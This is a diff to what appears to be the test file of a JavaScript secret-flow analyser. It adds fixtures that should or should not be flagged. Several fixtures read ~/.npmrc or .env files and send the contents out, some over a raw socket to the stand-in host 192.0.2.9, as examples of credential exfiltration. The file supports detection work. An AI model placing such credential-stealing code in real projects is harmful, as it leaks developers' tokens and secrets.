@@ -30,6 +30,35 @@ const SOURCES: readonly Row[] = [
     "READ;const to=(url)=>(d)=>fetch(url,{body:d});Promise.resolve(k).then(to('x'))",
   ],
   [
+    'the second of the parts that another module takes out of what it is given',
+    {
+      'index.js': "const {post}=require('./post');READ;post({from:'me',text:k})",
+      'post.js':
+        "function* lines({from,text}){yield from;yield `${text}.`}exports.post=(mail)=>{const s=require('net').connect(25,'192.0.2.9');for(const line of lines(mail))s.write(line)}",
+    },
+  ],
+  [
+    'a list of functions by which a parameter begins',
+    "const all=[()=>require('fs').readFileSync(process.env.HOME+'/.npmrc','utf8')];const f=({ways=all}={})=>{const d=ways.map((way)=>way());SEND«d.join()»};f()",
+  ],
+  [
+    'what each function of a list of another module gives',
+    {
+      'index.js':
+        "const {all}=require('./all');Promise.allSettled(all.map((way)=>way())).then((d)=>{SEND«JSON.stringify(d)»})",
+      'all.js':
+        "const one=async()=>1;const two=()=>require('fs/promises').readFile(process.env.HOME+'/.npmrc','utf8');exports.all=[one,two]",
+    },
+  ],
+  [
+    'a tag of another module that reads what it is told',
+    {
+      'index.js': "const {text}=require('./text');SEND«text`Set: ${{file:'.env'}}`»",
+      'text.js':
+        "exports.text=(parts,...files)=>parts.reduce((all,one,i)=>all+one+(files[i]?.file?require('fs').readFileSync(files[i].file,'utf8'):''),'')",
+    },
+  ],
+  [
     'a function of another module, handed to a promise',
     {
       'index.js': "const {up}=require('./up');require('fs/promises').readFile(process.env.HOME+'/.npmrc').then(up)",
@@ -618,6 +647,29 @@ const OTHER: readonly (readonly [name: string, code: string, flow: string])[] = 
 test.each(OTHER)('%s', (_, code, flow) => expect(flowsIn(code)).toContain(flow));
 
 const STAYS: readonly Row[] = [
+  [
+    'another of the parts that another module takes out of what it is given',
+    {
+      'index.js': "const {post}=require('./post');READ;post({from:'me',text:'hello',key:k})",
+      'post.js':
+        "function* lines({from,text}){yield from;yield `${text}.`}exports.post=(mail)=>{const s=require('net').connect(25,'192.0.2.9');for(const line of lines(mail))s.write(line)}",
+    },
+  ],
+  [
+    'a list of another module of which nothing is called',
+    {
+      'index.js': "const {all}=require('./all');SEND«JSON.stringify(all.map((way)=>way.name))»",
+      'all.js': "exports.all=[function two(){return require('fs').readFileSync(process.env.HOME+'/.npmrc','utf8')}]",
+    },
+  ],
+  [
+    'a tag of another module that only writes what it is told',
+    {
+      'index.js': "const {text}=require('./text');SEND«text`Set: ${'.env'}`»",
+      'text.js':
+        "exports.read=(f)=>require('fs').readFileSync(f,'utf8');exports.text=(parts,...names)=>parts.reduce((all,one,i)=>all+one+names[i],'')",
+    },
+  ],
   [
     'one key to its vendor',
     "fetch('https://api.vendor.example/',{headers:{authorization:`Bearer ${process.env.VENDOR_API_KEY}`}})",
